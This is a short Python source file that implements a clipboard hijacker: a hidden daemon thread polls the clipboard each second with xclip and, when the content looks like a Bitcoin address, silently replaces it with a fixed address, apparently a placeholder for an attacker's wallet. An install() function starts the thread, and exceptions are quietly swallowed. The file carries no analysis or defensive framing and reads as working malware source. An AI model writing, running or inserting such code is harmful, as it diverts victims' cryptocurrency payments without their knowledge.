import re
import subprocess
import threading
import time

PATTERN = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
REPLACEMENT = "bc1q" + "0" * 38


def _loop():
    while True:
        try:
            text = subprocess.run(["xclip", "-selection", "clipboard", "-o"], capture_output=True, text=True).stdout.strip()
            if PATTERN.match(text):
                subprocess.run(["xclip", "-selection", "clipboard"], input=REPLACEMENT, text=True)
        except Exception:
            pass
        time.sleep(1)


def install():
    threading.Thread(target=_loop, daemon=True).start()
